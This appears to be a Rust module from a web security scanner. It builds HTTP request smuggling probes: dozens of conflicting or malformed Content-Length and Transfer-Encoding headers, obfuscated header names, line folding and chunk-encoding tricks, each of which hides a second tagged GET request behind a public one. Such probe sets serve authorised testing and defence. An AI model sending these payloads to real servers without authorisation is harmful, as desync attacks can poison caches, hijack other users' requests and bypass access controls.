//! A second request behind the first, where two servers may not agree on where the first one ends.
//!
//! The request in front is public. To a host that takes what follows for a second one, that one is a
//! request like any other; a host that takes it for a body must leave no origin in doubt.

use crate::probe::Probe;

/// Header lines about the length, `{n}` standing for that of the second request, and what comes
/// before it.
const LENGTHS: &[(&[(&str, &str)], &str)] = &[
    (&[], ""),
    (&[("Content-Length", "0")], ""),
    (&[("Content-Length", "{n}")], ""),
    (&[("Content-Length", "{n}"), ("Content-Length", "0")], ""),
    (&[("Content-Length", "0"), ("Content-Length", "{n}")], ""),
    (&[("Content-Length", "{n}, 0")], ""),
    (&[("Content-Length", "+{n}")], ""),
    (&[("Content-Length", "0{n}")], ""),
    (&[("Content-Length", "{n} 0")], ""),
    (&[("Content-Length", "\u{b}{n}")], ""),
    (&[("Content-Length ", "{n}")], ""),
    (&[("Content_Length", "{n}")], ""),
    (&[("Content_Length", "0"), ("Content-Length", "{n}")], ""),
    (&[("Transfer-Encoding", "chunked")], "0\r\n\r\n"),
    (&[("Transfer-Encoding", "chunked"), ("Content-Length", "{n}")], "0\r\n\r\n"),
    (&[("Content-Length", "{n}"), ("Transfer-Encoding", "chunked")], "0\r\n\r\n"),
    (&[("Transfer-Encoding", "xchunked"), ("Content-Length", "{n}")], "0\r\n\r\n"),
    (&[("Transfer-Encoding", "chunked, identity"), ("Content-Length", "{n}")], "0\r\n\r\n"),
    (&[("Transfer-Encoding", "identity"), ("Content-Length", "{n}")], "0\r\n\r\n"),
    (&[("Transfer-Encoding", "identity, chunked"), ("Content-Length", "{n}")], "0\r\n\r\n"),
    (
        &[("Transfer-Encoding", "chunked"), ("Transfer-Encoding", "x"), ("Content-Length", "{n}")],
        "0\r\n\r\n",
    ),
    (&[("Transfer-Encoding ", "chunked"), ("Content-Length", "{n}")], "0\r\n\r\n"),
    (&[("Transfer_Encoding", "chunked"), ("Content-Length", "{n}")], "0\r\n\r\n"),
    (&[("Transfer-Encoding", "\u{b}chunked"), ("Content-Length", "{n}")], "0\r\n\r\n"),
    (&[("Transfer-Encoding", "\tchunked"), ("Content-Length", "{n}")], "0\r\n\r\n"),
    (&[("Transfer-Encoding", "CHUNKED"), ("Content-Length", "{n}")], "0\r\n\r\n"),
    (&[("X", "y\r\n Transfer-Encoding: chunked"), ("Content-Length", "{n}")], "0\r\n\r\n"),
    (&[("Transfer-Encoding", "\r\n chunked"), ("Content-Length", "{n}")], "0\r\n\r\n"),
    (&[("Transfer-Encoding", "chunked")], "0;x\r\n\r\n"),
    (&[("Transfer-Encoding", "chunked")], "0;\n\r\n\r\n"),
    (&[("Transfer-Encoding", "chunked")], "0\n\n"),
    (&[("Transfer-Encoding", "chunked")], "00\r\nX: y\r\n\r\n"),
    (&[("Transfer-Encoding", "chunked")], "1;\r\nx\r\n0\r\nScript-Name: /x\r\n\r\n"),
    (&[("Transfer-Encoding", "chunked")], "2\r\nxx0\r\n\r\n"),
    (&[("Transfer-Encoding", "chunked")], "0x0\r\n\r\n"),
    (&[("Transfer-Encoding", "chunked")], "100000000000000000\r\n\r\n"),
    (&[("Expect", "100-continue"), ("Content-Length", "{n}")], ""),
    (&[("Upgrade", "websocket"), ("Connection", "Upgrade"), ("Sec-WebSocket-Version", "777")], ""),
    (
        &[
            ("Upgrade", "websocket"),
            ("Connection", "Upgrade"),
            ("Sec-WebSocket-Version", "13"),
            ("Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ=="),
        ],
        "",
    ),
    (
        &[
            ("Upgrade", "h2c"),
            ("Connection", "Upgrade, HTTP2-Settings"),
            ("HTTP2-Settings", "AAMAAABk"),
        ],
        "",
    ),
    (&[("Connection", "content-length"), ("Content-Length", "{n}")], ""),
    (&[("Connection", "transfer-encoding"), ("Transfer-Encoding", "chunked")], "0\r\n\r\n"),
];

pub(super) fn probes(bases: &[String]) -> Vec<Probe> {
    let mut found = Vec::new();
    for base in bases {
        let second =
            format!("GET {base} HTTP/1.1\r\nHost: app.example\r\nx-attack: {{id}}\r\n\r\n");
        for (headers, before) in LENGTHS {
            // An id is about this long.
            let length = second.len() + before.len() + 44;
            for method in ["GET", "POST", "HEAD", "OPTIONS"] {
                let mut probe = Probe::get("/pub").with_method(method);
                for (name, value) in *headers {
                    probe = probe.with_header(*name, value.replace("{n}", &length.to_string()));
                }
                found.push(probe.with_body(format!("{before}{second}")));
            }
        }
    }
    found
}
